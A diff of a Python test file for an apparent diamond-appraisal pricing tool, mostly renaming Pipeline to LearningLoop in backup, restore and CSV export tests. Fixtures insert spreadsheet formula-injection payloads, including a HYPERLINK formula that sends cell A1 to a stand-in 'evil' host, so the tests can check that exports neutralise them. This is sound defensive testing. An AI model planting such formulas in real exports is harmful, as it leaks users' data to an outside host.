@@ -11,7 +11,7 @@ import pandas as pd
 import pytest
 from sqlalchemy import insert, select
 
-from diamond_model.learning.loop import Pipeline
+from diamond_model.learning.loop import LearningLoop
 from diamond_model.pricing.quote import quote_frame
 from diamond_model.storage.atomic import TargetError, write_atomically
 from diamond_model.storage.backup import BackupError, backup, export_csv, manifest, restore
@@ -19,9 +19,9 @@ from diamond_model.storage.tables import Appraisal
 from tests.conftest import csv_bytes, make_settings
 
 
-def rich_store(url: str, folder: Path, appraisals: pd.DataFrame) -> Pipeline:
+def rich_store(url: str, folder: Path, appraisals: pd.DataFrame) -> LearningLoop:
     """A seeded store with a second batch, a withdrawn one, rejections, notes and two versions."""
-    pipeline = Pipeline.from_settings(make_settings(url, folder))
+    pipeline = LearningLoop.from_settings(make_settings(url, folder))
     pipeline.store.create_schema()
     extra = appraisals.iloc[2000:2600].astype({"cut": str})
     extra.loc[extra.index[:3], "cut"] = '=HYPERLINK("http://x")'
@@ -32,17 +32,19 @@ def rich_store(url: str, folder: Path, appraisals: pd.DataFrame) -> Pipeline:
     return pipeline
 
 
-def quotes(pipeline: Pipeline, appraisals: pd.DataFrame) -> list[tuple[float, float, float]]:
+def quotes(pipeline: LearningLoop, appraisals: pd.DataFrame) -> list[tuple[float, float, float]]:
     model = pipeline.registry.load(pipeline.registry.champion_version())
     stones = appraisals.iloc[4000:4100].drop(columns=["price", "appraised_on"])
     return [(q.price, q.low, q.high) for q in quote_frame(model, stones, 0.9, False).quotes]
 
 
-def check_round_trip(source: Pipeline, url: str, folder: Path, appraisals: pd.DataFrame) -> None:
+def check_round_trip(
+    source: LearningLoop, url: str, folder: Path, appraisals: pd.DataFrame
+) -> None:
     before = manifest(source.store)
     path = folder / "backup.zip"
     assert backup(source.store, path)["counts"] == before["counts"]
-    restored = Pipeline.from_settings(make_settings(url, folder / "restored"))
+    restored = LearningLoop.from_settings(make_settings(url, folder / "restored"))
     lines = restore(restored.store, path)
     assert "counts and price sum match" in lines[-1]
     after = manifest(restored.store)
@@ -89,7 +91,7 @@ def test_a_backup_of_more_than_200_000_appraisals_streams(
     tmp_path: Path, appraisals: pd.DataFrame
 ) -> None:
     url = f"sqlite:///{tmp_path / 'big.sqlite3'}"
-    pipeline = Pipeline.from_settings(make_settings(url, tmp_path))
+    pipeline = LearningLoop.from_settings(make_settings(url, tmp_path))
     pipeline.store.create_schema()
     pipeline.ingest(csv_bytes(appraisals.iloc[:100]), "seed.csv", "expert")
     with pipeline.store.engine.begin() as connection:
@@ -101,7 +103,7 @@ def test_a_backup_of_more_than_200_000_appraisals_streams(
             )
     assert pipeline.store.count_appraisals() == 204_800
     summary = backup(pipeline.store, tmp_path / "big.zip")
-    restored = Pipeline.from_settings(
+    restored = LearningLoop.from_settings(
         make_settings(f"sqlite:///{tmp_path / 'again.sqlite3'}", tmp_path)
     )
     restore(restored.store, tmp_path / "big.zip")
@@ -112,7 +114,7 @@ def test_a_backup_of_more_than_200_000_appraisals_streams(
 
 
 def test_exports_neutralise_formulas_and_refuse_to_clobber(
-    pipeline: Pipeline, tmp_path: Path, appraisals: pd.DataFrame
+    pipeline: LearningLoop, tmp_path: Path, appraisals: pd.DataFrame
 ) -> None:
     bad = appraisals.iloc[:20].astype({"cut": str, "color": str})
     bad.loc[bad.index[0], "cut"] = '=HYPERLINK("http://evil/?"&A1,"click")'
